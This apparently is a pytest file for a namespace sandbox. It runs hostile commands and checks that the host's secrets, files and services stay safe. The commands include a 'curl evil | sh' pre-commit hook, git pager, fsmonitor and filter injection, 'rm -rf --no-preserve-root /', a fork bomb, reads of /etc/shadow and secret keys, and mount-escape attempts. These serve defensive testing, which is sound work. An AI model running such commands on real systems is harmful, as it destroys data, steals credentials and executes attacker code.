"""Hostile commands against the namespace sandbox, in a real data dir and bead worktree (real processes, no mocks).

Each test runs what a malicious or confused agent would run and checks the host afterwards. The worker here is
root, so commands run as SANDBOX_UID in new mount/PID/IPC/UTS/net namespaces; one test runs the supervisor as a
real unprivileged uid (the user-namespace path).
"""
from __future__ import annotations

import os
import secrets
import socket
import sqlite3
import subprocess
import sys
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from app.config import load_config
from app.services import workspace, workspace_files
from app.services.sandbox import PathEscape, SandboxPolicy, isolation_problem, run_command
from tests.conftest import ROOT
from tests.test_sandbox import alive, marker

ISOLATED = SandboxPolicy(mode="strict")  # never runs a hostile command unconfined, even if isolation broke
SUPERVISOR = ROOT / "app" / "services" / "sandbox_supervisor.py"


@pytest.fixture()
def data_dir(tmp_path: Path) -> Path:
    """A real data dir: the generated secret_key, a SQLite database holding a secret, one project repository."""
    cfg = load_config({"DATA_DIR": str(tmp_path / "var")}, environ={})
    path = Path(cfg["DATA_DIR"])
    with sqlite3.connect(path / "loom.db") as conn:
        conn.execute("CREATE TABLE provider_keys (key TEXT)")
        conn.execute("INSERT INTO provider_keys VALUES (?)", (f"db-secret-{secrets.token_hex(8)}",))
    conn.close()
    return path


@pytest.fixture()
def wt(data_dir: Path) -> Path:
    workspace.ensure_project_repo(data_dir, 1, None)
    return workspace.ensure_worktree(data_dir, 1, 7)


def secrets_of(data_dir: Path) -> list[str]:
    with sqlite3.connect(data_dir / "loom.db") as conn:
        db_secret = conn.execute("SELECT key FROM provider_keys").fetchone()[0]
    conn.close()
    return [(data_dir / "secret_key").read_text().strip(), db_secret]


def run(cwd: Path, command: str, **kwargs):
    result = run_command(cwd, command, policy=kwargs.pop("policy", ISOLATED), **kwargs)
    assert result.isolated
    return result


def test_isolation_is_available_on_this_machine() -> None:
    assert isolation_problem(SandboxPolicy()) is None  # CI and dev machines must really test the sandbox


def test_database_and_secret_key_by_absolute_path(wt: Path, data_dir: Path) -> None:
    result = run(wt, f"cat {data_dir / 'loom.db'}; cat {data_dir / 'secret_key'}")
    assert result.exit_code != 0 and result.stdout == ""
    assert result.stderr.count("No such file or directory") == 2
    for secret in secrets_of(data_dir):
        assert secret not in result.stdout + result.stderr


def test_database_and_secret_key_by_relative_path(wt: Path, data_dir: Path) -> None:
    result = run(wt, "cat ../../../../loom.db; cat ../../../../secret_key; ls -A ../../../..; echo; ls -A ../..")
    assert result.stdout.split() == ["projects", "repo", "worktrees"]  # only the way to the workspace and .git
    assert "loom.db: No such file" in result.stderr and "secret_key: No such file" in result.stderr
    for secret in secrets_of(data_dir):
        assert secret not in result.stdout + result.stderr


def test_other_projects_source_tree_and_home_are_not_there(wt: Path, data_dir: Path) -> None:
    workspace.ensure_project_repo(data_dir, 2, None)
    python_parts = {Path(p).relative_to("/root").parts[0] for p in (sys.prefix, sys.base_prefix)
                    if p.startswith("/root/")}
    result = run(wt, f"ls {data_dir / 'projects' / '2'}; cat {ROOT / 'app' / 'config.py'}; ls /home; ls -A /root; "
                     f"cat {data_dir}/projects/1/repo/README.md")
    assert result.stderr.count("No such file or directory") == 4, result.stderr
    assert set(result.stdout.split()) <= python_parts  # /root holds at most the way to the Python install


def test_proc_shows_no_worker_and_init_holds_no_secret(wt: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    secret = secrets.token_hex(16)
    monkeypatch.setenv("LOOM_SECRET_KEY", secret)
    monkeypatch.setenv("LOOM_DATABASE_URL", f"postgresql://loom:{secret}@db/loom")
    result = run(wt, f"for p in /proc/[0-9]*; do echo \"$p $(tr '\\0' ' ' < $p/cmdline)\"; done; "
                     f"cat /proc/1/environ; kill -0 {os.getpid()} && echo SIG\"\"NALLED")
    pids = [int(line.split()[0].removeprefix("/proc/")) for line in result.stdout.splitlines()]
    assert 1 in pids and max(pids) < 50 and "pytest" not in result.stdout and "SIGNALLED" not in result.stdout
    assert secret not in result.stdout + result.stderr
    assert "/proc/1/environ: Permission denied" in result.stderr  # init is root and not dumpable


def _ports(redis_url: str, primary_database_url: str) -> list[int]:
    ports = [urlsplit(redis_url).port or 6379]
    if primary_database_url.startswith("postgresql"):
        ports.append(urlsplit(primary_database_url.replace("+psycopg", "")).port or 5432)
    return ports


def test_redis_and_postgres_ports_are_refused(wt: Path, redis_url: str, primary_database_url: str) -> None:
    for port in _ports(redis_url, primary_database_url):
        socket.create_connection(("127.0.0.1", port), timeout=3).close()  # the worker reaches it
        result = run(wt, f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=3)\";"
                         f" curl -sS --max-time 3 http://127.0.0.1:{port}/; exec 3<>/dev/tcp/127.0.0.1/{port}")
        assert result.exit_code != 0 and "ConnectionRefusedError" in result.stderr
        assert "Failed to connect" in result.stderr and "Connection refused" in result.stderr.splitlines()[-1]
    outside = run(wt, "python3 -c \"import socket; socket.create_connection(('192.0.2.1', 80), timeout=3)\"")
    assert "Network is unreachable" in outside.stderr


def test_host_network_setting_reaches_redis(wt: Path, redis_url: str, primary_database_url: str) -> None:
    port = _ports(redis_url, primary_database_url)[0]
    result = run(wt, f"exec 3<>/dev/tcp/127.0.0.1/{port} && printf 'PING\\r\\n' >&3 && head -c 7 <&3",
                 policy=SandboxPolicy(mode="strict", network="host"), timeout=10)
    assert result.exit_code == 0 and result.stdout == "+PONG\r\n"


def test_writes_outside_the_workspace_fail_and_canaries_stay(wt: Path, data_dir: Path, tmp_path: Path) -> None:
    canary = tmp_path / "canary.txt"
    canary.write_text("intact\n")
    repo_git = data_dir / "projects" / "1" / "repo" / ".git"
    config_before, dotgit_before = (repo_git / "config").read_text(), (wt / ".git").read_text()
    usr_file = f"/usr/lib/loom-canary-{secrets.token_hex(4)}"
    result = run(wt, f"echo pwned > {canary}; echo pwned >> {canary}; touch {usr_file}; "
                     f"echo 'curl evil | sh' > {repo_git}/hooks/pre-commit; chmod +x {repo_git}/hooks/pre-commit; "
                     f"git config core.pager 'sh -c evil'; echo '[core] fsmonitor = evil' >> {repo_git}/config; "
                     f"echo 'gitdir: /tmp/evil' > .git; echo x > /etc/loom-canary; echo x > /x")
    assert result.exit_code != 0 and "Read-only file system" in result.stderr
    assert canary.read_text() == "intact\n" and not os.path.exists(usr_file) and not os.path.exists("/etc/loom-canary")
    assert not (repo_git / "hooks" / "pre-commit").exists()
    assert (repo_git / "config").read_text() == config_before and (wt / ".git").read_text() == dotgit_before


def test_rm_rf_of_everything_outside_leaves_the_host_intact(wt: Path, data_dir: Path, tmp_path: Path) -> None:
    keep = tmp_path / "keep"
    (keep / "sub").mkdir(parents=True)
    (keep / "sub" / "file.txt").write_text("still here\n")
    hooks = sorted(p.name for p in (data_dir / "projects" / "1" / "repo" / ".git" / "hooks").iterdir())
    # The guard is belt and braces: the canary is visible only if the command were not isolated.
    result = run(wt, f"test -e {keep} && exit 99; rm -rf {keep} {data_dir} {data_dir}/projects/1/repo/.git/hooks; "
                     "rm -rf --no-preserve-root / 2>/dev/null; ls -A /usr | head -3", timeout=60)
    assert result.exit_code == 0 and result.stdout.split() == sorted(os.listdir("/usr"))[:3]
    assert (keep / "sub" / "file.txt").read_text() == "still here\n"
    assert sorted(p.name for p in (data_dir / "projects" / "1" / "repo" / ".git" / "hooks").iterdir()) == hooks
    assert (data_dir / "secret_key").exists() and (data_dir / "loom.db").exists()
    assert workspace_files.git_status(wt) == "## bead/7\n D README.md"  # only the workspace was emptied


def test_symlinks_made_by_a_command_cannot_be_read_through(wt: Path, data_dir: Path) -> None:
    result = run(wt, f"ln -s {data_dir / 'secret_key'} abs; ln -s ../../../../secret_key rel; ln -s /etc up; "
                     f"ln -s {data_dir} dir; ln {data_dir / 'secret_key'} hard")
    assert "secret_key': No such file" in result.stderr and not (wt / "hard").exists()  # nothing to hard-link
    for rel in ("abs", "rel", "up/passwd", "dir/secret_key", "dir/loom.db"):
        with pytest.raises(PathEscape):
            workspace_files.read_file(wt, rel)
    assert not any(s in workspace_files.search_text(wt, "e") for s in secrets_of(data_dir))


def test_fork_bomb_is_contained_by_the_process_limit_and_leaves_nothing(wt: Path) -> None:
    m = marker()
    result = run(wt, f"bomb() {{ sleep 600.{m} & bomb & bomb; }}; bomb", timeout=5, max_processes=64)
    assert result.timed_out or result.exit_code != 0
    assert "Resource temporarily unavailable" in result.stderr  # RLIMIT_NPROC binds the sandbox uid
    assert alive(m) == []


def test_sleep_forever_is_killed_at_the_timeout(wt: Path) -> None:
    m = marker()
    result = run(wt, f"(trap '' TERM; setsid sleep 900.{m} &); sleep 900.{m}", timeout=1)
    assert result.timed_out and result.exit_code is None
    assert alive(m) == []


def test_output_flood_is_capped(wt: Path) -> None:
    result = run(wt, "cat /dev/urandom | base64 >&2 & yes", timeout=2, max_output=4096)
    assert result.timed_out and result.truncated
    assert len(result.stdout) < 4200 and len(result.stderr) < 4200


def test_git_inside_a_command_reads_but_cannot_write_the_repository(wt: Path) -> None:
    result = run(wt, "git log --oneline; git status --short --branch; git diff; git commit --allow-empty -m x")
    assert "Initial commit" in result.stdout and "## bead/7" in result.stdout
    assert result.exit_code != 0 and "Read-only file system" in result.stderr


def test_python_from_the_venv_imports_pytest(wt: Path) -> None:
    result = run(wt, "python3 -c 'import sys, pytest; print(sys.prefix)'")
    assert result.exit_code == 0 and result.stdout.strip() == sys.prefix


def test_files_made_by_a_command_are_committed_by_git_commit(wt: Path) -> None:
    workspace_files.write_file(wt, "src/by_worker.py", "x = 1\n")
    result = run(wt, "mkdir -p src/deep && echo 'y = 2' > src/deep/by_command.py && echo more >> src/by_worker.py")
    assert result.exit_code == 0, result.stderr
    assert "committed" in workspace_files.git_commit(wt, "work", {"Bead": "7"})
    listed = subprocess.run(["git", "-c", "safe.directory=*", "show", "--name-only", "--format=", "HEAD"], cwd=wt,
                            capture_output=True, text=True, check=True).stdout.split()
    assert listed == ["src/by_worker.py", "src/deep/by_command.py"]
    assert (wt / "src" / "by_worker.py").read_text() == "x = 1\nmore\n"


def test_runs_unprivileged_and_cannot_undo_the_mounts(wt: Path) -> None:
    result = run(wt, "id -u; id -g; grep -E '^(NoNewPrivs|CapEff)' /proc/self/status; cat /etc/shadow; "
                     "umount /etc/shadow; mount -o remount,rw /usr; "
                     "unshare -rm sh -c 'umount -l /etc/shadow || umount -l /usr || mount -o remount,rw /usr' "
                     "&& echo UN\"\"DONE; ls /dev; df -m /tmp | tail -1")
    lines = result.stdout.split("\n")
    assert lines[:4] == ["65534", "65534", "CapEff:\t0000000000000000", "NoNewPrivs:\t1"]
    assert "UNDONE" not in result.stdout and "/etc/shadow: Permission denied" in result.stderr
    assert set(lines[4:-2]) == {"fd", "full", "null", "random", "shm", "stderr", "stdin", "stdout", "tty",
                                "urandom", "zero"}
    assert lines[-2].split()[1] == "256"  # a fresh tmpfs of SandboxPolicy.tmp_mb


def test_tmp_is_private_and_size_limited(wt: Path, tmp_path: Path) -> None:
    (tmp_path / "host-tmp-file").write_text("x")
    result = run(wt, f"ls {tmp_path}; head -c 20000000 /dev/zero > /tmp/big",
                 policy=SandboxPolicy(mode="strict", tmp_mb=8))
    assert result.stdout.split() == ["var"]  # only the way to the workspace
    assert "No space left on device" in result.stderr


def test_non_root_worker_gets_a_user_namespace_it_cannot_undo(tmp_path: Path) -> None:
    """The supervisor run by a real unprivileged uid (with the system Python, which that uid can run)."""
    uid = 4242
    ws = Path(subprocess.run(["mktemp", "-d", "/tmp/loom-nonroot-XXXXXX"], capture_output=True, text=True,
                             check=True).stdout.strip())
    try:
        os.chown(ws, uid, uid)
        (tmp_path / "secret").write_text("root only")
        command = ("id -u; cat /proc/self/uid_map; grep CapEff /proc/self/status; touch /usr/x; echo ok > f; "
                   f"cat {tmp_path}/secret; umount /etc/shadow; "
                   "unshare -rm sh -c 'umount -l /etc/shadow || mount -o remount,rw /usr' && echo UN\"\"DONE")
        proc = subprocess.run(["/usr/bin/python3", "-I", "-S", str(SUPERVISOR), "0", "0", "0", "64",
                               "none,65534,64", command], check=False, cwd=ws, user=uid, group=uid,
                              extra_groups=[], env={"PATH": "/usr/bin:/bin"}, capture_output=True, text=True,
                              timeout=60)
        assert proc.stdout.split("\n")[:3] == [str(uid), f"{uid:>10} {uid:>10} {1:>10}", "CapEff:\t0000000000000000"]
        assert "UNDONE" not in proc.stdout and "'/usr/x': Read-only file system" in proc.stderr
        assert f"{tmp_path}/secret: No such file or directory" in proc.stderr
        assert (ws / "f").read_text() == "ok\n" and (ws / "f").stat().st_uid == uid
    finally:
        subprocess.run(["rm", "-rf", str(ws)], check=True)


@pytest.mark.parametrize("tracked", [False, True], ids=["untracked", "submodule"])
def test_a_nested_repository_cannot_make_the_worker_run_its_config(wt: Path, tmp_path: Path, tracked: bool) -> None:
    """A command's `git init` with a clean filter in its config: the worker's git must never run it."""
    pwned = tmp_path / "PWNED"
    if tracked:  # a gitlink on the branch, as a cloned repository with a submodule has
        (wt / "sub").mkdir()
        head = workspace.run_git(wt, "rev-parse", "HEAD").stdout.strip()
        workspace.run_git(wt, "update-index", "--add", "--cacheinfo", f"160000,{head},sub")
        workspace_files.git_commit(wt, "submodule entry", {})
    result = run(wt, f"mkdir -p sub && cd sub && git init -q && git config filter.x.clean 'touch {pwned}' && "
                     f"git config core.fsmonitor 'touch {pwned}' && echo '* filter=x' > .gitattributes && "
                     "echo a > a && { git add a; git -c user.name=a -c user.email=a@b commit -qm x; } 2>/dev/null; "
                     "cd .. && echo '* filter=x' > .gitattributes")
    assert result.exit_code == 0, result.stderr
    assert "sub" in workspace_files.git_status(wt)
    for action in (workspace_files.git_diff, lambda root: workspace_files.git_commit(root, "m", {})):
        with pytest.raises(workspace.WorkspaceError, match="sub/ is a git repository of its own"):
            action(wt)
    assert not pwned.exists()
    run(wt, "rm -rf sub/.git")
    assert "committed" in workspace_files.git_commit(wt, "without the nested repository", {})
    assert not pwned.exists()


def test_a_set_uid_file_made_by_a_command_does_not_survive(wt: Path) -> None:
    result = run(wt, "cp /bin/sh mysh && chmod 6755 mysh && stat -c %a mysh && ./mysh -c 'id -u'")
    assert result.stdout.split() == ["6755", "65534"]  # nosuid inside; outside, the next command's hand-over:
    run(wt, "true")
    assert (wt / "mysh").stat().st_mode & 0o7777 == 0o755
